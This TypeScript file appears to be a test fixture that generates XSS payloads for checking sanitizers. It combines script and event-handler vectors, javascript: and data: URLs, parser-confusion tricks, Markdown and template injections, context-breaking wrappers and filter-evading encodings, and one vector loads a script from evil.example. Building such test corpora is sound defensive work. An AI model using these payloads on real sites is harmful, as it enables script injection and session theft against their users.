// Text that would be a script if anything read it as markup, Markdown, a template or an address: vectors, put into wrappers
// that would let them out of where they stand, in spellings that a filter might miss. Each calls `canary`, which must never run.

/** What runs, or would like to. */
const vectors: readonly string[] = [
  // Elements that run by themselves.
  '<script>canary(1)</script>',
  '<script src="https://evil.example/canary.js"></script>',
  '<script type=module>canary(1)</script>',
  '<svg><script>canary(1)</script></svg>',
  '<img src=x onerror=canary(1)>',
  '<img/src="x"/onerror="canary(1)"/>',
  '<image href=x onerror=canary(1)>',
  '<svg onload=canary(1)>',
  '<svg><animate onbegin=canary(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:canary(1)></svg>',
  '<svg><foreignObject><img src=x onerror=canary(1)></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=canary(1)/>#x"></svg>',
  '<iframe srcdoc="<script>parent.canary(1)</script>"></iframe>',
  '<iframe src="javascript:parent.canary(1)"></iframe>',
  '<object data="javascript:canary(1)"></object>',
  '<embed src="javascript:canary(1)">',
  '<input autofocus onfocus=canary(1)>',
  '<details open ontoggle=canary(1)>words</details>',
  '<video><source onerror=canary(1)></video>',
  '<audio src=x onerror=canary(1)></audio>',
  '<body onload=canary(1)>',
  '<marquee onstart=canary(1)>words</marquee>',
  '<style onload=canary(1)>*{}</style>',
  '<style>@keyframes k{}b{animation:k 1s}</style><b onanimationstart=canary(1)>words</b>',
  '<link rel=stylesheet href="data:text/css,*{}" onload=canary(1)>',
  '<template shadowrootmode=open><img src=x onerror=canary(1)></template>',
  '<div popover=auto onbeforetoggle=canary(1) id=p></div>',
  '<x-any is=a contenteditable autofocus onfocus=canary(1)>',
  // Elements that wait for a click, or move the page.
  '<a href="javascript:canary(1)">words</a>',
  '<a href=" java&Tab;script:canary(1)">words</a>',
  '<form action="javascript:canary(1)"><button>words</button></form>',
  '<button formaction="javascript:canary(1)">words</button>',
  '<math><a xlink:href="javascript:canary(1)">words</a></math>',
  '<svg><a href="javascript:canary(1)"><text>words</text></a></svg>',
  '<meta http-equiv=refresh content="0;url=javascript:canary(1)">',
  '<base href="javascript:canary(1)//">',
  // Read once as this and once as that: what cleaners trip over.
  '<math><mi><style><img title="</style><img src=x onerror=canary(1)>"></style></mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=canary(1)>"></noscript>',
  '<svg></p><style><a id="</style><img src=x onerror=canary(1)>">',
  '<select><template><img src=x onerror=canary(1)></template></select>',
  '<!--><img src=x onerror=canary(1)>-->',
  '<![CDATA[<img src=x onerror=canary(1)>]]>',
  '<?xml <img src=x onerror=canary(1)> ?>',
  '<<script>canary(1)//<</script>',
  '<scr<script>ipt>canary(1)</scr</script>ipt>',
  // Addresses.
  'javascript:canary(1)',
  'javascript://site.example/%0acanary(1)',
  'data:text/html,<script>canary(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="canary(1)"/>',
  'vbscript:canary(1)',
  'view-source:javascript:canary(1)',
  'https://site.example/"onmouseover="canary(1)',
  "https://site.example/'onclick='canary(1)",
  'https://site.example/`onclick=`canary(1)`',
  'https://site.example/><img src=x onerror=canary(1)>',
  'https://javascript:canary(1)@site.example/',
  'https://site.example/#javascript:canary(1)',
  'https://site.example\\@evil.example/"onclick=canary(1)//',
  '//evil.example/canary(1)',
  'mailto:a@site.example?body="><script>canary(1)</script>',
  // Markdown, and an autolinker beside it.
  '[words](javascript:canary(1))',
  '[words](data:text/html,<script>canary(1)</script>)',
  '![words](javascript:canary(1))',
  '![words](x "onerror=canary(1)")',
  '![words"onerror="canary(1)](x)',
  '[![words](x)](javascript:canary(1))',
  '<javascript:canary(1)>',
  '<https://site.example/"onclick="canary(1)>',
  '[words]\n\n[words]: javascript:canary(1)',
  '[https://site.example/](javascript:canary(1))',
  'https://site.example/[words](javascript:canary(1))',
  '[words](https://site.example/[more](javascript:canary(1)))',
  '[words](https://site.example/"onclick="canary(1))',
  'https://site.example/**"onmouseover=canary(1)//**',
  '_https://site.example/_"onmouseover=canary(1)_//_',
  '```html\n<script>canary(1)</script>\n```',
  '`</code><script>canary(1)</script>`',
  '| a |\n|---|\n| <script>canary(1)</script> |',
  '> <img src=x onerror=canary(1)>',
  // Templates of others, and Lit's own marks.
  "{{constructor.constructor('canary(1)')()}}",
  '${canary(1)}',
  '<%= canary(1) %>',
  '#{canary(1)}',
  '{%raw%}<script>canary(1)</script>{%endraw%}',
  '<!--?lit$canary(1)$--><img src=x onerror=canary(1)>',
  '<b @click=${canary(1)} .innerHTML="canary(1)" ?onclick="canary(1)">words</b>',
];

/** Where a vector may stand: by itself, or after what ends the place that it was put into. */
const wrappers: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</textarea></title></style></script>${vector}`,
  (vector) => `-->${vector}<!--`,
  (vector) => `**${vector}**`,
  (vector) => `[words](${vector})`,
  (vector) => `[${vector}](https://site.example/)`,
  (vector) => `https://site.example/${vector}`,
  (vector) => `mailto:a@site.example?subject=${vector}`,
  (vector) => `<p title="${vector}">`,
  (vector) => `x" autofocus onfocus="canary(1)" y="${vector}`,
];

const hex = (char: string): string => char.codePointAt(0)!.toString(16);

/** How it may be spelt. */
const spellings: readonly ((text: string) => string)[] = [
  (text) => text.replace(/[a-z]/gu, (char, at: number) => (at % 2 ? char : char.toUpperCase())),
  (text) => text.replace(/[<>"':]/gu, (char) => `&#x${hex(char)};`),
  (text) => text.replace(/[<>"':]/gu, (char) => `&#${char.codePointAt(0)!}`),
  (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
  (text) => text.replace(/[<>"':()]/gu, (char) => `%${hex(char)}`),
  (text) => text.replace(/[<>"':()]/gu, (char) => `%25${hex(char)}`),
  (text) => text.replace(/[<>"']/gu, (char) => `\\u00${hex(char)}`),
  // Full-width signs, which some stores fold into the plain ones.
  (text) => text.replace(/[<>"':()=]/gu, (char) => String.fromCodePoint(char.codePointAt(0)! + 0xfee0)),
  (text) => text.replaceAll('script', 'scr\u200bipt').replaceAll('on', 'o\u200dn'),
  (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll('javascript:', 'java\nscript:').replaceAll('<', '\n<'),
  (text) => text.replaceAll('javascript:', 'java\tscript\t:').replaceAll(' ', '\t'),
];

/** Every vector in every wrapper, in every spelling, and a slant through all three. */
export const payloads: readonly string[] = [
  ...new Set([
    ...vectors,
    ...vectors.flatMap((vector) => wrappers.map((wrap) => wrap(vector))),
    ...vectors.flatMap((vector, n) => spellings.map((spell, m) => spell(m % 3 ? vector : wrappers[(n + m) % wrappers.length]!(vector)))),
  ]),
];

/** What a one-line field of so many characters can hold: as many different vectors as fit. */
export function fitting(chars: number): readonly string[] {
  return payloads.filter((payload) => payload.length <= chars && !/[\n\t]/u.test(payload));
}

/** All of `some`, in as few texts of at most so many characters as hold them, one a line. */
export function packed(some: readonly string[], chars: number): readonly string[] {
  const texts: string[] = [];
  for (const payload of some) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + payload.length <= chars) texts[texts.length - 1] = `${last}\n${payload}`;
    else if (payload.length <= chars) texts.push(payload);
  }
  return texts;
}

/** Addresses that `isEmail` takes; a quote or a brace is a letter to it. */
export const emails: readonly string[] = [
  "'onclick=canary`1`'@site.example",
  '{{canary`1`}}@site.example',
  '${canary`1`}@site.example',
  '`/*javascript*/canary`@site.example',
  '&#60script&#62canary`1`@site.example',
  'javascript&#58canary`1`@site.example',
];

/** Addresses that a flow may give a link button, though they hope to be more. */
export const hrefs: readonly string[] = payloads
  .flatMap((payload) => [`https://site.example/${payload}`, `/${payload}`, `mailto:a@site.example?subject=${payload}`, payload])
  .filter((href) => href.length < 2_000 && /^(?:https?:\/\/[^\s]+|mailto:[^\s]+|\/(?!\/)[^\s]*)$/iu.test(href));
